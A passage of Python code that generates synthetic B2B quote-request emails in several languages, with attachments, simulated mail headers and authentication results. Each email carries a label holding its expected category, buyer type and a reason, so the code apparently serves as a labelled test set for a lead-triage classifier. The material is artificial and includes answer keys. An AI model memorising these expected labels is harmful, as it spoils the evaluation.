              ["NH-V04", "Schalenvase", "9 cm", "24 cm", "1.800", "4,10 USD"]],
        widths=[25, 40, 22, 22, 35, 35],
        small="Verpackung: Einzelkarton braun mit EAN-Etikett, Umkarton 6 Stk., ISTA 1A. QC: AQL 2.5 (Inspektion durch Dritte). Lieferung FOB Ningbo, KW 44/2026.",
        producer="Microsoft® Word für Microsoft 365")
    root = mixed(alt(text(body_txt), html(para_html(body_txt, "outlook")), bnd(rnd, "outlook")),
                 [attachment(pdf, "NORDHAVN_Vasen_SS27_Spezifikation.pdf", "application/pdf", "outlook")], bnd(rnd, "outlook"))
    return dict(seed=202, rcpt="own", t=t, to="Lily Chen <info@ningbo-homedecor.cn>",
                from_=("Svenja Albers", "s.albers@lindqvist-brandt.de"),
                subject="Anfrage Keramikvasen Kollektion SS27 - NORDHAVN living / Angebot bis 15.05.",
                msgid=ms["msgid"],
                thread=[("Thread-Topic", "Anfrage Keramikvasen Kollektion SS27 - NORDHAVN living / Angebot bis 15.05."),
                        ("Thread-Index", thread_index(rnd)), ("X-MS-Has-Attach", "yes")],
                mailer=[("Accept-Language", "de-DE, en-US"), ("Content-Language", "de-DE"), ("MIME-Version", "1.0")],
                envfrom="s.albers@lindqvist-brandt.de", client=ms["client"], hops=ms["hops"], pre=ms["pre"],
                dkim=("lindqvist-brandt.de", "selector1", ["From", "Date", "Subject", "Message-ID", "Content-Type", "MIME-Version"]),
                auth=dict(spf="pass", dkim="pass", dmarc="pass", dmarc_policy="p=QUARANTINE sp=QUARANTINE dis=NONE"),
                body=root,
                label=label(expected_category="A", expected_buyer_type="oem_importer", is_genuine=True, kind="specific",
                            language="de", email="s.albers@lindqvist-brandt.de", company="Lindqvist & Brandt Wohnaccessoires GmbH",
                            country="DE", website="lindqvist-brandt.de",
                            why="German importer with own brand; follow-up to a phone call; 4 models x 3 colours x 1,800 pcs, glaze, Pantone, packaging, AQL, BSCI, FOB Ningbo, 30/70; PDF spec."))


@mail
def minato():
    rnd = random.Random(203)
    t = at(2026, 5, 12, 17, 45, 3, 9)
    ip = "49.212.180.63"
    host = "www4521.sakura.ne.jp"
    body_txt = """Everbright Home Decor
営業ご担当者様

お世話になっております。
株式会社ミナト雑貨 商品部の山本でございます。
先日は東京インターナショナル・ギフト・ショーにてサンプルをお見せいただき、ありがとうございました。

秋冬の定番商品として、下記フォトフレームの見積をお願いしたく、ご連絡いたしました。
詳細仕様は添付の仕様書（Excel）をご参照ください。

【品目】FSC認証木製フォトフレーム 5型
　・L判（89×127mm）ナチュラル／ウォールナット
　・2L判（127×178mm）ナチュラル／ウォールナット
　・A4（210×297mm）ナチュラル
【数量】各1,200個（合計6,000個）
【前面】ガラス不可、PET板（割れ防止）でお願いします
【包装】個別OPP袋＋ギフトボックス、JANコードシール貼付（コードは弊社より支給）
【条件】FOB寧波、9月末出荷希望
【お支払い】T/T 30％前払い、残金70％はB/Lコピー受領後

FSCのCoC認証番号のご提示も併せてお願いいたします。
お手数ですが、5月末までにご回答いただけますと幸いです。

今後ともよろしくお願い申し上げます。

━━━━━━━━━━━━━━━━━━━━
株式会社ミナト雑貨　商品部
山本 真理子（やまもと まりこ）
〒550-0013 大阪市西区新町1-12-8 ミナトビル3F
TEL：06-6533-2418　FAX：06-6533-2419
https://www.minato-zakka.co.jp
━━━━━━━━━━━━━━━━━━━━
"""
    sheet = xlsx([
        ["株式会社ミナト雑貨　フォトフレーム見積仕様書（2026AW）", "", "", "", "", ""],
        ["品番", "サイズ", "色", "素材", "数量", "備考"],
        ["MZ-PF-L-NA", "L判 89×127mm", "ナチュラル", "FSC認証パイン材", 1200, "前面PET板"],
        ["MZ-PF-L-WN", "L判 89×127mm", "ウォールナット", "FSC認証パイン材", 1200, "前面PET板"],
        ["MZ-PF-2L-NA", "2L判 127×178mm", "ナチュラル", "FSC認証パイン材", 1200, "前面PET板"],
        ["MZ-PF-2L-WN", "2L判 127×178mm", "ウォールナット", "FSC認証パイン材", 1200, "前面PET板"],
        ["MZ-PF-A4-NA", "A4 210×297mm", "ナチュラル", "FSC認証パイン材", 1200, "壁掛け・卓上兼用"],
        ["", "", "", "", "", ""],
        ["包装", "個別OPP袋＋ギフトボックス、JANシール", "", "", "", ""],
        ["条件", "FOB寧波／9月末出荷／T/T 30%前払い・70%B/Lコピー後", "", "", "", ""],
    ], sheet="見積仕様", creator="yamamoto")
    try:
        body = text(body_txt, charset="iso-2022-jp", cte="7bit")
        hcs = "iso-2022-jp"
    except UnicodeEncodeError:
        body = text(body_txt)
        hcs = "utf-8"
    root = mixed(body, [attachment(sheet, "フォトフレーム見積仕様書_ミナト雑貨.xlsx",
                                   "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "php")],
                 bnd(rnd, "other"))
    return dict(seed=203, rcpt="aliyun", t=t, hcharset=hcs,
                from_=("山本 真理子", "m.yamamoto@minato-zakka.co.jp"),
                subject="フォトフレーム（FSC木製）お見積りのお願い／株式会社ミナト雑貨",
                msgid=f"<{t.strftime('%Y%m%d%H%M%S')}.{hexr(rnd, 8, True)}.m.yamamoto@minato-zakka.co.jp>",
                mailer=[("X-Mailer", "Becky! ver. 2.81.06 [ja]"), ("MIME-Version", "1.0")],
                envfrom="m.yamamoto@minato-zakka.co.jp",
                client={"helo": host, "rdns": host, "ip": ip},
                hops=[f"from [192.168.10.24] (p{rnd.randint(1000000, 9999999)}-ipxg{rnd.randint(10, 99)}osakachuo.osaka.ocn.ne.jp [180.{rnd.randint(0, 63)}.{rnd.randint(0, 255)}.{rnd.randint(1, 254)}])\n\t(authenticated bits=0)\n\tby {host} (8.17.1/8.17.1) with ESMTPSA id 64C8jx3R012877\n\t(version=TLSv1.3 cipher=TLS_AES_256_GCM_SHA384 bits=256 verify=NO)\n\tfor <RCPT>; {D(t, 1)}"],
                dkim=("minato-zakka.co.jp", "rs20250901"),
                auth=dict(spf="pass", dkim="pass", dmarc="pass", dmarc_policy="p=NONE dis=NONE"),
                body=root,
                label=label(expected_category="A", expected_buyer_type="wholesaler", is_genuine=True, kind="specific",
                            language="ja", email="m.yamamoto@minato-zakka.co.jp", company="株式会社ミナト雑貨",
                            country="JP", website="minato-zakka.co.jp",
                            why="Osaka zakka wholesaler met at the Tokyo gift show; 5 FSC frame SKUs x 1,200, packaging, JAN codes, FOB Ningbo, 30/70, date; ISO-2022-JP mail from a Sakura host with DKIM."))


@mail
def bloomfield():
    rnd = random.Random(204)
    t = at(2026, 3, 31, 11, 20, 37, 11)
    host = "s05.syd2.hostingplatform.net.au"
    body_txt = """Hi team,

Daniel here from Bloomfield Floral Supplies in Melbourne. We wholesale to about 400 florists, event stylists and a few homewares stores around VIC and NSW, and we're reviewing our artificial range for the wedding season (Sep-Mar).

Looking for a quote on the following, all FOB Ningbo:

1. Real-touch peony stem, 65cm, 3 heads - blush, white, dusty pink - 3,000 of each colour
2. Silver dollar eucalyptus spray, 90cm - 5,000
3. Faux olive branch, 110cm - 4,000
4. Ranunculus bundle (6 heads) - cream & apricot - 2,500 each
5. Faux pampas 110cm (polyester, NOT natural) - 6,000
6. Bunny tail bundle - 5,000 (if this is natural/dried material we need the fumigation cert + treatment details for DAFF biosecurity, otherwise skip it)

Bunched 12 stems per poly sleeve, cartons max 22kg. Our forwarder is K+N Ningbo.
Payment 30% deposit, balance against BL copy.

Can you send photos of your current peony and eucalyptus too? We'd want 2 samples of each before committing. Ideally goods land in Melbourne mid-August.

Cheers,
Daniel Kovac
Purchasing Manager
Bloomfield Floral Supplies Pty Ltd
12 Kitchen Rd, Dandenong South VIC 3175
Ph (03) 9794 6623 | bloomfieldfloral.com.au
"""
    root = alt(text(body_txt), html(para_html(body_txt, "apple")), bnd(rnd, "apple"))
    return dict(seed=204, rcpt="aliyun", t=t,
                from_=("Daniel Kovac", "daniel@bloomfieldfloral.com.au"),
                subject="Faux stems + pampas - quote request (approx 34,000 stems)",
                msgid=f"<{hexr(rnd, 8, True)}-{hexr(rnd, 4, True)}-{hexr(rnd, 4, True)}-{hexr(rnd, 4, True)}-{hexr(rnd, 12, True)}@bloomfieldfloral.com.au>",
                mailer=[("X-Mailer", "Apple Mail (2.3826.400.131.1.6)"), ("Mime-Version", "1.0 (Mac OS X Mail 16.0 \\(3826.400.131.1.6\\))")],
                envfrom="daniel@bloomfieldfloral.com.au",
                client={"helo": host, "rdns": host, "ip": "103.42.110.47"},
                hops=[f"from [192.168.1.108] (unknown [120.148.{rnd.randint(0, 255)}.{rnd.randint(1, 254)}])\n\t(Authenticated sender: daniel@bloomfieldfloral.com.au)\n\tby {host} (Postfix) with ESMTPSA id {alnum(rnd, 10, 'BCDFGHJKLMNPQRSTVWXZ0123456789')}\n\tfor <RCPT>; {D(t, 1)}"],
                auth=dict(spf="softfail", dkim="none", dmarc="none"),
                body=root,
                label=label(expected_category="A", expected_buyer_type="wholesaler", is_genuine=True, kind="specific",
                            language="en", email="daniel@bloomfieldfloral.com.au", company="Bloomfield Floral Supplies Pty Ltd",
                            country="AU", website="bloomfieldfloral.com.au",
                            why="Australian florist-supply wholesaler with 6 detailed lines and quantities, packing, forwarder, biosecurity awareness, 30/70; headers imperfect (small cPanel host, SPF softfail, no DKIM) but genuine."))


@mail
def groenhof():
    rnd = random.Random(205)
    t = at(2026, 3, 4, 10, 2, 18, 1)
    ms = m365_side(rnd, t, "eur3")
    body_txt = """Beste mevrouw Chen,

Voor onze 14 tuincentra (Gelderland en Overijssel) stellen wij momenteel het kerstassortiment 2026 samen. Naar aanleiding van uw aanbieding op de Christmasworld in Frankfurt vragen wij u een offerte uit te brengen voor onderstaande artikelen. Het overzicht met kleuren en aantallen zit als Excel-bestand in de bijlage.

- Onbreekbare kerstballen Ø 6 cm, koker à 12 stuks, 12 kleuren (mat/glans mix) - 1.000 kokers per kleur
- Onbreekbare kerstballen Ø 8 cm, koker à 6 stuks, 12 kleuren - 800 kokers per kleur
- Glazen kerstbal Ø 10 cm met glitterdecoratie, per stuk in doosje, 6 designs - 1.500 stuks per design
- Onbreekbare piek 28 cm, 4 kleuren - 600 stuks per kleur

Eisen: EAN-code per artikel (wij leveren de codes), NL/DE/FR tekst op het etiket, REACH-conform, waarschuwing "geen speelgoed / niet geschikt voor kinderen onder 3 jaar".
Levering: FOB Ningbo, laden uiterlijk half augustus, verwacht 2 à 3 x 40ft HC.
Betaling: 30% aanbetaling, 70% tegen kopie B/L. L/C at sight is ook bespreekbaar.

Graag uw offerte inclusief CBM per artikel vóór 20 maart.

Met vriendelijke groet,

Ruud Verbeek
Inkoper Kerst & Woondecoratie
Groenhof Tuincentra B.V.
Hengelosestraat 512 | 7521 AM Enschede
T 053 480 22 60 | www.groenhof-tuincentra.nl
"""
    rows = [["Groenhof Tuincentra - Kerst 2026 - offerteaanvraag", "", "", "", ""],
            ["Artikel", "Omschrijving", "Kleur / design", "Verpakking", "Aantal"]]
    colours = ["wit mat", "goud glans", "champagne mat", "rood glans", "bordeaux mat", "donkergroen mat",
               "salie mat", "nachtblauw glans", "roze mat", "zilver glans", "koper mat", "zwart mat"]
    for i, c in enumerate(colours):
        rows.append([f"GH-KB6-{i + 1:02d}", "Onbreekbare kerstbal 6 cm", c, "koker 12 st.", 1000])
    for i, c in enumerate(colours):
        rows.append([f"GH-KB8-{i + 1:02d}", "Onbreekbare kerstbal 8 cm", c, "koker 6 st.", 800])
    for i in range(6):
        rows.append([f"GH-GL10-{i + 1:02d}", "Glazen kerstbal 10 cm glitter", f"design {i + 1}", "per stuk in doosje", 1500])
    for i, c in enumerate(["goud", "zilver", "wit", "rood"]):
        rows.append([f"GH-PK28-{i + 1:02d}", "Onbreekbare piek 28 cm", c, "per stuk", 600])
    sheet = xlsx(rows, sheet="Kerst 2026", creator="Ruud Verbeek")
    root = mixed(alt(text(body_txt), html(para_html(body_txt, "outlook")), bnd(rnd, "outlook")),
                 [attachment(sheet, "Groenhof_Kerst2026_offerteaanvraag.xlsx",
                             "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "outlook")], bnd(rnd, "outlook"))
    return dict(seed=205, rcpt="own", t=t, to="'Lily Chen' <info@ningbo-homedecor.cn>",
                from_=("Ruud Verbeek | Groenhof Tuincentra", "r.verbeek@groenhof-tuincentra.nl"),
                subject="Prijsaanvraag kerstballen onbreekbaar - Groenhof Tuincentra - kerst 2026",
                msgid=ms["msgid"],
                thread=[("Thread-Topic", "Prijsaanvraag kerstballen onbreekbaar - Groenhof Tuincentra - kerst 2026"),
                        ("Thread-Index", thread_index(rnd)), ("X-MS-Has-Attach", "yes")],
                mailer=[("Accept-Language", "nl-NL, en-US"), ("Content-Language", "nl-NL"), ("MIME-Version", "1.0")],
                envfrom="r.verbeek@groenhof-tuincentra.nl", client=ms["client"], hops=ms["hops"], pre=ms["pre"],
                dkim=("groenhof-tuincentra.nl", "selector2", ["From", "Date", "Subject", "Message-ID", "Content-Type", "MIME-Version"]),
                auth=dict(spf="pass", dkim="pass", dmarc="pass", dmarc_policy="p=REJECT sp=REJECT dis=NONE"),
                body=root,
                label=label(expected_category="A", expected_buyer_type="chain", is_genuine=True, kind="specific",
                            language="nl", email="r.verbeek@groenhof-tuincentra.nl", company="Groenhof Tuincentra B.V.",
                            country="NL", website="groenhof-tuincentra.nl",
                            why="14-store garden-centre chain met at Christmasworld; 34 Christmas SKUs with quantities, labelling, REACH, FOB Ningbo, 30/70 or L/C at sight, deadline; M365 all pass."))


@mail
def alnoor():
    rnd = random.Random(206)
    t = at(2026, 4, 7, 12, 35, 44, 4)
    ms = m365_side(rnd, t, "eur")
    body_txt = """السادة شركة Everbright المحترمين،

تحية طيبة وبعد،

نحن إدارة المشتريات في مجموعة النور للضيافة (دبي)، ونعمل حالياً على تجهيز فندقين جديدين: فندق النور داون تاون دبي (312 غرفة) ومنتجع النور جزيرة السعديات - أبوظبي (186 غرفة)، ومن المقرر افتتاحهما في الربع الرابع من عام 2026.

نرجو تزويدنا بعرض سعر للبنود التالية (التفاصيل والمقاسات في جدول الكميات المرفق):

1. مزهرية سيراميك للغرف، ارتفاع 25 سم، لون عاجي مطفي - 520 قطعة
2. مزهرية سيراميك كبيرة للردهات، ارتفاع 60 سم - 80 قطعة
3. تنسيق أوركيد صناعي في أصيص سيراميك، ارتفاع 45 سم - 600 قطعة
4. شموع معطرة في كوب زجاجي بشعار الفندق (للأجنحة) - 1,000 قطعة

Important: artificial plants must come with a fire-retardant test report (Dubai Civil Defence approval needed for public areas). Candle fragrance to be confirmed with our brand team.

شروط التسليم: CIF ميناء جبل علي. الدفع: 30% مقدماً و70% مقابل نسخة بوليصة الشحن، أو اعتماد مستندي عند الاطلاع.
نرجو إرسال العرض مع صور العينات قبل 30 أبريل 2026.

مع خالص التحية،
رانيا حداد
مسؤولة مشتريات أولى - التجهيزات (FF&E / OS&E)
مجموعة النور للضيافة
ص.ب 118742، دبي، الإمارات العربية المتحدة
هاتف: +971 4 329 6610
"""
    pdf = pdf_doc("Al Noor Hospitality Group - OS&E Bill of Quantities - Decorative items", [
        "Projects: Al Noor Downtown Dubai (312 keys) and Al Noor Saadiyat Island Resort, Abu Dhabi (186 keys). Opening Q4 2026.",
        "Delivery CIF Jebel Ali. Fire-retardant test report required for all artificial plants used in public areas (Dubai Civil Defence).",
    ], table=[["Item", "Description", "Size", "Finish", "Qty"],
              ["OSE-DEC-01", "Guest room ceramic vase", "H 25 cm", "Ivory matte", "520"],
              ["OSE-DEC-02", "Lobby ceramic floor vase", "H 60 cm", "Ivory matte", "80"],
              ["OSE-DEC-03", "Artificial orchid in ceramic pot", "H 45 cm", "White / ivory", "600"],
              ["OSE-DEC-04", "Scented candle in glass, hotel logo", "200 g", "Clear glass, gold print", "1,000"]],
        widths=[28, 62, 25, 40, 20], small="Prepared by: Rania Haddad, Senior Procurement Officer FF&E / OS&E. Rev. 02, 2026-04-06.")
    root = mixed(alt(text(body_txt), html(para_html(body_txt, "outlook")), bnd(rnd, "outlook")),
                 [attachment(pdf, "ANHG_OSE_BOQ_Decor_Rev02.pdf", "application/pdf", "outlook")], bnd(rnd, "outlook"))
    return dict(seed=206, rcpt="exmail", t=t,
                from_=("Rania Haddad", "rania.haddad@alnoorhospitality.ae"),
                cc="procurement@alnoorhospitality.ae",
                subject="طلب عرض سعر - مزهريات سيراميك وتنسيقات زهور صناعية - افتتاح الربع الرابع 2026",
                msgid=ms["msgid"],
                thread=[("Thread-Topic", "طلب عرض سعر"), ("Thread-Index", thread_index(rnd)), ("X-MS-Has-Attach", "yes")],
                mailer=[("Accept-Language", "ar-AE, en-US"), ("Content-Language", "ar-AE"), ("MIME-Version", "1.0")],
                envfrom="rania.haddad@alnoorhospitality.ae", client=ms["client"], hops=ms["hops"], pre=ms["pre"],
                dkim=("alnoorhospitality.ae", "selector1", ["From", "Date", "Subject", "Message-ID", "Content-Type", "MIME-Version"]),
                auth=dict(spf="pass", dkim="pass", dmarc="pass", dmarc_policy="p=QUARANTINE sp=QUARANTINE dis=NONE"),
                body=root,
                label=label(expected_category="A", expected_buyer_type="end_user", is_genuine=True, kind="specific",
                            language="ar", email="rania.haddad@alnoorhospitality.ae", company="Al Noor Hospitality Group",
                            country="AE", website="alnoorhospitality.ae",
                            why="Dubai hotel group buying for two new hotels (own use): BOQ with sizes, quantities, fire-retardant requirement, CIF Jebel Ali, 30/70 or L/C; GCC target market; M365 pass. One line is under MOQ."))


@mail
def maison_lumen():
    rnd = random.Random(207)
    t = at(2026, 5, 20, 9, 12, 26, 2)
    n = rnd.randint(10, 20)
    host = f"{n}.mo{rnd.randint(500, 599)}.mail-out.ovh.net"
    mxplan = f"mxplan{rnd.randint(1, 9)}.mail.ovh.net"
    body_txt = """Bonjour Lily,

Nous nous sommes rencontrées sur votre stand à la Foire de Canton en avril (hall 11.2) ; je suis la gérante de Maison Lumen : 4 boutiques de décoration (Lyon, Annecy, Chambéry, Grenoble) et notre e-shop.

Comme convenu, voici notre demande pour une gamme de bougies à notre marque :

- Bougie parfumée 200 g, verre ambré, couvercle bambou, mèche coton
- 3 parfums : Figuier, Ambre & Vanille, Thé Blanc - 1 200 pièces par parfum
- Cire végétale (soja ou colza), charge parfum 8 %
- Étiquette à notre marque + étiquetage CLP conforme (pictogrammes, mentions EUH208, allergènes) en français - merci de nous fournir la FDS du parfum
- Coffret individuel en carton FSC, impression 1 couleur

Livraison : FOB Ningbo (notre transitaire est à Lyon), ou DAP Lyon si vous pouvez le proposer.
Paiement : 30 % à la commande, 70 % contre copie du connaissement.
Nous voudrions recevoir la marchandise début octobre pour la saison de Noël.

Pourriez-vous m'envoyer votre prix unitaire, le délai de production et le coût des échantillons (2 par parfum) ?

Merci d'avance et à bientôt,

Claire Dufresne
Gérante - Maison Lumen
12 rue Mercière, 69002 Lyon
06 71 48 23 90 - www.maison-lumen.fr
"""
    root = alt(text(body_txt), html(para_html(body_txt, "apple")), bnd(rnd, "apple"))
    return dict(seed=207, rcpt="aliyun", t=t, to="Lily <sales@everbright-decor.cn>",
                from_=("Claire Dufresne", "claire@maison-lumen.fr"),
                subject="Bougies parfumées à notre marque - suite Foire de Canton",
                msgid=f"<{hexr(rnd, 8, True)}-{hexr(rnd, 4, True)}-{hexr(rnd, 4, True)}-{hexr(rnd, 4, True)}-{hexr(rnd, 12, True)}@maison-lumen.fr>",
                mailer=[("X-Mailer", "iPad Mail (22E252)"), ("Mime-Version", "1.0 (1.0)")],
                envfrom="claire@maison-lumen.fr",
                client={"helo": host, "rdns": host, "ip": f"46.105.{rnd.randint(32, 79)}.{rnd.randint(2, 250)}"},
                hops=[f"from {mxplan} (unknown [10.108.{rnd.randint(0, 40)}.{rnd.randint(1, 250)}])\n\tby {host} (Postfix) with ESMTPS id {alnum(rnd, 10, 'BCDFGHJKLMNPQRSTVWXZ0123456789')}\n\tfor <RCPT>; {D(t, 1, dt.timezone.utc)} (UTC)",
                      f"from [10.24.{rnd.randint(0, 255)}.{rnd.randint(1, 254)}] (90.{rnd.randint(0, 127)}.{rnd.randint(0, 255)}.{rnd.randint(1, 254)}) by {mxplan} (172.16.2.{rnd.randint(2, 99)})\n\twith Microsoft SMTP Server (version=TLS1_2) id 15.1.2507.39; {D(t, 0)}"],
                dkim=("maison-lumen.fr", "ovhmo4081", ["from", "to", "subject", "date", "message-id", "content-type", "mime-version"]),
                auth=dict(spf="pass", dkim="pass", dmarc="pass", dmarc_policy="p=NONE dis=NONE"),
                body=root,
                label=label(expected_category="A", expected_buyer_type="retailer", is_genuine=True, kind="specific",
                            language="fr", email="claire@maison-lumen.fr", company="Maison Lumen", country="FR",
                            website="maison-lumen.fr",
                            why="4-boutique French retailer met at Canton Fair; private-label candle spec (wax, load, CLP labelling, FSC box), 3 x 1,200 pcs, FOB/DAP, 30/70, delivery date; OVH mail with DKIM."))


@mail
def casa_jalisco():
    rnd = random.Random(208)
    t = at(2026, 6, 23, 13, 48, 2, -6)
    g, dk = workspace(rnd, t, "casajalisco.com.mx")
    body_txt = """Buenas tardes,

Somos Importadora Casa Jalisco, distribuidores de artículos de decoración y regalo en Guadalajara, con clientes en Jalisco, Michoacán y Nayarit (tiendas de regalo, florerías y mueblerías).

Estamos planeando una compra para la temporada de fin de año y nos interesan sus jarrones de cerámica y flores artificiales. La idea sería armar un contenedor de 40' mixto con varios modelos.

¿Nos podría compartir su catálogo actualizado con precios FOB, cantidad mínima por modelo y tiempo de producción? También nos gustaría saber si pueden mezclar colores dentro del mínimo y si ya han exportado a México (certificado de origen, etiquetado NOM-050).

Saludos cordiales,

Fernando Ruiz Olvera
Gerente de Compras
Importadora Casa Jalisco S.A. de C.V.
Av. López Mateos Sur 2077, Zapopan, Jal.
Tel. +52 33 3647 1185
"""
    root = alt(text(body_txt), html(para_html(body_txt, "gmail")), bnd(rnd, "gmail"))
    return dict(seed=208, rcpt="own", t=t,
                from_=("Fernando Ruiz | Casa Jalisco", "compras@casajalisco.com.mx"),
                subject="Solicitud de catálogo y precios - jarrones y flores artificiales",
                msgid=g["msgid"], mailer=[("MIME-Version", "1.0")],
                envfrom="compras@casajalisco.com.mx", client=g["client"], hops=g["hops"], pre=g["pre"], dkim=dk,
                auth=dict(spf="pass", dkim="pass", dmarc="pass", dmarc_policy="p=NONE dis=NONE"),
                body=root,
                label=label(expected_category="B", expected_buyer_type="wholesaler", is_genuine=True, kind="some_detail",
                            language="es", email="compras@casajalisco.com.mx", company="Importadora Casa Jalisco S.A. de C.V.",
                            country="MX", website="casajalisco.com.mx",
                            why="Real Mexican decor distributor, product lines and a mixed 40' in mind but no SKUs or quantities; Mexico (LATAM) is outside the target markets."))


@mail
def lantern():
    rnd = random.Random(209)
    t = at(2026, 1, 28, 20, 41, 15, 0)
    g = gmail_side(rnd, t)
    body_txt = """Hello,

I run a little gift & homeware shop on Church Street in Whitby (The Lantern) and found you through a friend who stocks your candles. I'd love to try a few of your lines but I'm a small independent so I can't take anything near 500 of one item.

Roughly what I'd want for a first go:
- speckled ceramic vases, 2 or 3 sizes - maybe 120 in total
- soy candles in the amber jars - around 200, mixed scents
- a few of the rattan-look photo frames if you still do them

Is there any chance of a mixed order like that, or do you work with a UK wholesaler I could buy from instead? Happy to pay upfront. It'd need delivering to the shop (YO22) as I don't have an importer or anything.

Thanks so much,
Jo

Jo Pemberton
The Lantern, 88 Church Street, Whitby
IG @thelanternwhitby
"""
    root = alt(text(body_txt), html(para_html(body_txt, "gmail")), bnd(rnd, "gmail"))
    return dict(seed=209, rcpt="exmail", t=t,
                from_=("Jo Pemberton", "thelanterngiftshop@gmail.com"),
                subject="small order? vases & candles", msgid=g["msgid"], mailer=[("MIME-Version", "1.0")],
                envfrom="thelanterngiftshop@gmail.com", client=g["client"], hops=g["hops"], pre=g["pre"],
                dkim=("gmail.com", "20230601", ["mime-version", "from", "date", "message-id", "subject", "to"]),
                auth=dict(spf="pass", dkim="pass", dmarc="pass", dmarc_policy="p=NONE sp=QUARANTINE dis=NONE"),
                body=root,
                label=label(expected_category="B", expected_buyer_type="retailer", is_genuine=True, kind="some_detail",
                            language="en", email="thelanterngiftshop@gmail.com", company="The Lantern", country="GB",
                            website="",
                            why="Genuine one-shop UK retailer on Gmail, our products, but well under MOQ and needs DDP to the door; worth a polite answer or a referral to a distributor."))


@mail
def decorcasa():
    rnd = random.Random(210)
    t = at(2026, 9, 22, 9, 5, 48, 2)
    host = f"smtpdh{rnd.randint(10, 20)}-{rnd.randint(1, 2)}.aruba.it"
    body_txt = """Buongiorno,

siamo un ingrosso di articoli per la casa, oggettistica e complementi d'arredo con sede a Padova, serviamo negozi e fioristi del Triveneto.

Vorremmo ricevere il vostro catalogo completo con listino prezzi e le condizioni di vendita (quantità minime, tempi di consegna, porto di partenza).

Cordiali saluti

Elena Bortolami
Ufficio Acquisti
Decorcasa Ingrosso S.r.l.
Via dell'Industria 41 - 35129 Padova
Tel. 049 807 3351
www.decorcasa-ingrosso.it
"""
    root = alt(text(body_txt), html(para_html(body_txt, "outlook")), bnd(rnd, "outlook"))
    return dict(seed=210, rcpt="aliyun", t=t,
                from_=("Ufficio Acquisti Decorcasa", "acquisti@decorcasa-ingrosso.it"),
                subject="richiesta catalogo",
                msgid=f"<00{hexr(rnd, 1)}{hexr(rnd, 1)}01dc{hexr(rnd, 4)}${hexr(rnd, 8)}${hexr(rnd, 8)}@decorcasa-ingrosso.it>",
                mailer=[("X-Mailer", "Microsoft Outlook 16.0"), ("Thread-Index", "Adw" + b64r(rnd, 12)),
                        ("Content-Language", "it"), ("MIME-Version", "1.0")],
                envfrom="acquisti@decorcasa-ingrosso.it",
                client={"helo": host, "rdns": host, "ip": f"62.149.155.{rnd.randint(140, 180)}"},
                hops=[f"from DESKTOP-ACQ02 ([93.{rnd.randint(32, 71)}.{rnd.randint(0, 255)}.{rnd.randint(1, 254)}])\n\tby Aruba Outgoing Smtp with ESMTPSA\n\tid {alnum(rnd, 12)}; {D(t, 1)}"],
                dkim=("decorcasa-ingrosso.it", "a1", ["from", "to", "subject", "date", "message-id", "mime-version", "content-type"]),
                auth=dict(spf="pass", dkim="pass", dmarc="none"),
                body=root,
                label=label(expected_category="B", expected_buyer_type="wholesaler", is_genuine=True, kind="vague",
                            language="it", email="acquisti@decorcasa-ingrosso.it", company="Decorcasa Ingrosso S.r.l.",
                            country="IT", website="decorcasa-ingrosso.it",
                            why="Real-looking Padua wholesaler on its own domain (Aruba), EU target market, but only 'send catalogue and price list' with no products or quantities."))


@mail
def soso_naver():
    rnd = random.Random(211)
    t = at(2026, 7, 2, 22, 10, 40, 9)
    host = f"cvsmtppost{rnd.randint(10, 40)}.nm.naver.com"
    body_txt = """안녕하세요.

네이버 스마트스토어에서 '소소한 오후'라는 라이프스타일 소품샵을 운영하고 있는 김서연이라고 합니다.
알리바바에서 귀사의 소이 캔들과 유리 캔들 홀더를 보고 연락드립니다.

구매 희망 품목:
- 소이 캔들 200g (앰버 유리병) 3가지 향 × 100개 = 300개
- 유리 캔들 홀더 (스모크 그레이) 200개

한국에서는 캔들이 '안전확인대상 생활화학제품'이라 수입 전에 시험성적서가 필요한데, 성분표(MSDS)와 향료 IFRA 인증서를 보내주실 수 있는지 궁금합니다.
MOQ가 500개 이상이라면 혹시 첫 주문은 소량으로 가능한지도 알려주세요. 배송은 인천항 또는 항공특송(DHL) 희망합니다.

감사합니다.
김서연 드림
소소한 오후 | smartstore.naver.com/sosoafternoon
010-4827-3916
"""
    root = alt(text(body_txt, cte="b64"), html(para_html(body_txt, "plain"), cte="b64"), bnd(rnd, "other"))
    return dict(seed=211, rcpt="exmail", t=t,
                from_=("김서연", "soso_afternoon@naver.com"),
                subject="캔들/캔들홀더 소량 구매 문의드립니다",
                msgid=f"<{alnum(rnd, 22)}.{hexr(rnd, 8)}@cweb{rnd.randint(10, 30)}.nm.naver.com>",
                mailer=[("X-Naver-CIP", f"211.{rnd.randint(200, 250)}.{rnd.randint(0, 255)}.{rnd.randint(1, 254)}"), ("MIME-Version", "1.0")],
                envfrom="soso_afternoon@naver.com",
                client={"helo": host, "rdns": host, "ip": f"125.209.224.{rnd.randint(200, 230)}"},
                hops=[f"from cweb{rnd.randint(10, 30)}.nm.naver.com (localhost [127.0.0.1])\n\tby {host} with ESMTPSA id {alnum(rnd, 22)}\n\tfor <RCPT>; {D(t, 1)}"],
                dkim=("naver.com", "s20171208", ["from", "to", "subject", "date", "message-id", "content-type", "mime-version"]),
                auth=dict(spf="pass", dkim="pass", dmarc="pass", dmarc_policy="p=NONE dis=NONE"),
                body=root,
                label=label(expected_category="B", expected_buyer_type="retailer", is_genuine=True, kind="some_detail",
                            language="ko", email="soso_afternoon@naver.com", company="소소한 오후", country="KR",
                            website="smartstore.naver.com/sosoafternoon",
                            why="Korean online shop (Naver free mail, normal for small sellers) with concrete items and Korean compliance knowledge, but 300/200 pcs is under MOQ and Korea is not a target market."))


@mail
def florexa():
    rnd = random.Random(212)
    t = at(2026, 4, 15, 19, 33, 50, 2)
    host = f"serwer{rnd.randint(1800000, 2500000)}.home.pl"
    cip = (rnd.randint(64, 79), rnd.randint(0, 255), rnd.randint(1, 254))
    body_txt = """Dzień dobry,

nazywam się Tomasz Wrona, jestem współwłaścicielem firmy Florexa z Radomia. Startujemy z własną marką kompozycji ze sztucznych kwiatów (głównie na cmentarz i do dekoracji wnętrz) i szukamy stałego dostawcy z Chin.

Na początek interesowałoby nas:
- sztuczne róże, chryzantemy i storczyki (łodygi i bukiety)
- wiązanki i stroiki, ewentualnie gotowe kompozycje w doniczkach
- ewentualnie wkłady do zniczy (ale to może później)

Nie mamy jeszcze dokładnych ilości - chcemy zrobić pierwsze zamówienie próbne przed sezonem Wszystkich Świętych, może pół kontenera mieszanego. Proszę o katalog, cennik FOB i informację, czy możecie pakować pod naszą marką (etykiety po polsku).

Pozdrawiam
